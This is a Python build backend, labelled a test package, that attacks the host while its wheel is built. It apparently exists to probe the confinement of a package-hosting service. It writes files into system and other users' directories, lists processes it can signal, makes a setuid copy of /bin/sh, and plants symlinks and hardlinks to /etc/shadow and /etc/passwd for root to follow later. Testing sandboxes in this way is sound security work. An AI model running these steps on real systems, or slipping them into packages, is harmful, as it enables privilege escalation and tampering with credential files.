# An attacker's package, in as few words as will do.
"""A build backend (PEP 517) that attacks the host while its package is built, and packs what came of it.

TEST PACKAGE ONLY.
"""

from __future__ import annotations

import glob
import json
import os
import shutil
import subprocess
import zipfile
from typing import Any

from confinement import attempt, report

INFO = "hostile_package-1.dist-info"


def build_wheel(wheel_directory: str, *_arguments: Any) -> str:
    name = "hostile_package-1-py3-none-any.whl"
    with zipfile.ZipFile(f"{wheel_directory}/{name}", "w") as wheel:
        wheel.writestr("hostile_package.json", json.dumps({**report(), **attack()}))
        wheel.writestr(f"{INFO}/METADATA", "Metadata-Version: 2.1\nName: hostile-package\nVersion: 1\n")
        wheel.writestr(f"{INFO}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(
            f"{INFO}/RECORD", f"hostile_package.json,,\n{INFO}/METADATA,,\n{INFO}/WHEEL,,\n{INFO}/RECORD,,\n"
        )
    return name


def attack() -> dict[str, Any]:
    # It should not outlive the build. With a pipe of uv's it would hold the build up until its time is up.
    null = subprocess.DEVNULL
    subprocess.Popen(["sleep", "47114711"], start_new_session=True, stdin=null, stdout=null, stderr=null)
    (environment,) = (path for path in glob.glob("/srv/mallory/venvs/*") if os.access(path, os.W_OK))
    return {
        "written": {path: attempt(lambda path=path: plant(path)) for path in places()},
        "signaled": reachable(),
        "suid": attempt(lambda: suid(f"{environment}/suid")),
        "links": [
            # What root walks, chowns, chmods and marks afterwards.
            attempt(lambda: os.symlink("/etc/shadow", f"{environment}/lib/file")),
            attempt(lambda: os.symlink("/etc", f"{environment}/lib/folder")),
            attempt(lambda: os.symlink("/etc/planted", f"{environment}/.complete")),
            attempt(lambda: os.link("/etc/passwd", f"{environment}/lib/hard")),
        ],
    }


def places() -> list[str]:
    code = glob.glob("/srv/mallory/releases/*/src")
    fixed = ["/srv/mallory/venvs", "/srv/mallory/data", "/srv/alice", "/run", "/etc", "/var/lib", "/usr/local/bin"]
    return [*code, *fixed, "/var/cache/flaskhost/alice"]


def plant(folder: str) -> str:
    with open(f"{folder}/planted", "w", encoding="utf-8"):
        return "written"


def reachable() -> list[int]:
    """The processes that it may send signals to, without those of the build itself."""
    mine = set(subprocess.check_output(["ps", "-o", "pid=", "-g", str(os.getpgid(0))], text=True).split())
    found = []
    for number in range(2, 65536):
        try:
            os.kill(number, 0)
            with open(f"/proc/{number}/cgroup", encoding="utf-8") as file, open("/proc/self/cgroup") as own:
                if file.read() != own.read() and str(number) not in mine:
                    found.append(number)
        except OSError:
            continue
    return found


def suid(path: str) -> str:
    shutil.copy("/bin/sh", path)
    os.chmod(path, 0o4755)
    return oct(os.stat(path).st_mode)
